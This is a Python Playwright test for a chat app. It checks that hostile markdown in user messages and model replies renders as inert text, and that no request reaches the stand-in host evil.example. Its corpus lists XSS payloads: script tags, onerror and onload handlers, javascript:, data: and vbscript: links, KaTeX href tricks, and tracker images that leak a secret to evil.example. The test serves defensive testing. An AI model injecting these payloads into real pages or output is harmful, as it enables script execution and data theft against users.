"""Hostile markdown, in what a person types and in what the model answers, renders inert."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

CORPUS = {
    "script tag": "<script>window.__pwned = 'script'</script>",
    "onerror image": "<img src=x onerror=\"window.__pwned = 'onerror'\">",
    "svg onload": "<svg onload=\"window.__pwned = 'svg'\"></svg>",
    "iframe": "<iframe src=\"javascript:parent.__pwned = 'iframe'\"></iframe>",
    "javascript link": "[click me](javascript:window.__pwned='link')",
    "data link": "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[vb](vbscript:msgbox(1))",
    "raw anchor": "<a href=\"javascript:window.__pwned='anchor'\">raw anchor</a>",
    "external image": "![tracker](https://evil.example/leak.png?secret=42)",
    "reference image": "![ref][t]\n\n[t]: https://evil.example/ref.png",
    "katex href": r"$\href{javascript:window.__pwned='katex'}{click}$",
    "katex html": r"$\htmlClass{x}{y} \htmlStyle{background:url(https://evil.example/k.png)}{z}$",
    "html in table": "| a |\n|---|\n| <img src=x onerror=\"window.__pwned='table'\"> |",
    "html in code": "```html\n<script>window.__pwned='code'</script>\n```",
    "style tag": "<style>body{background:url(https://evil.example/css.png)}</style>",
    "form": '<form action="https://evil.example"><button>go</button></form>',
}


@pytest.mark.parametrize("source", ["user", "model"])
def test_the_corpus_renders_as_inert_text(signed_in, source):
    watched = signed_in()
    page = watched.page
    text = "\n\n".join(CORPUS.values())
    # The simulator's echo directive makes the model answer with exactly this text.
    box = page.get_by_role("textbox", name="Message")
    box.fill(("[[sim echo=1]]\n\n" if source == "model" else "[[sim tokens=3]]\n\n") + text)
    box.press("Enter")
    expect(page.locator("[data-state=completed] .reply")).to_have_count(1, timeout=15_000)
    page.wait_for_timeout(300)  # let any deferred handler fire if one had slipped through

    messages = page.locator("#messages")
    assert page.evaluate("() => window.__pwned") is None
    assert messages.locator("img, script, iframe, svg, style, form, object, embed").count() == 0
    hrefs = messages.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert all(href.startswith(("https:", "http:", "mailto:")) for href in hrefs if href)
    assert not any("evil.example" in url for url in watched.requests)
    assert watched.errors == []
    # The text itself is still there for a person to read.
    expect(messages).to_contain_text("<script>window.__pwned = 'script'</script>")
    expect(messages).to_contain_text("Image: tracker (evil.example)")
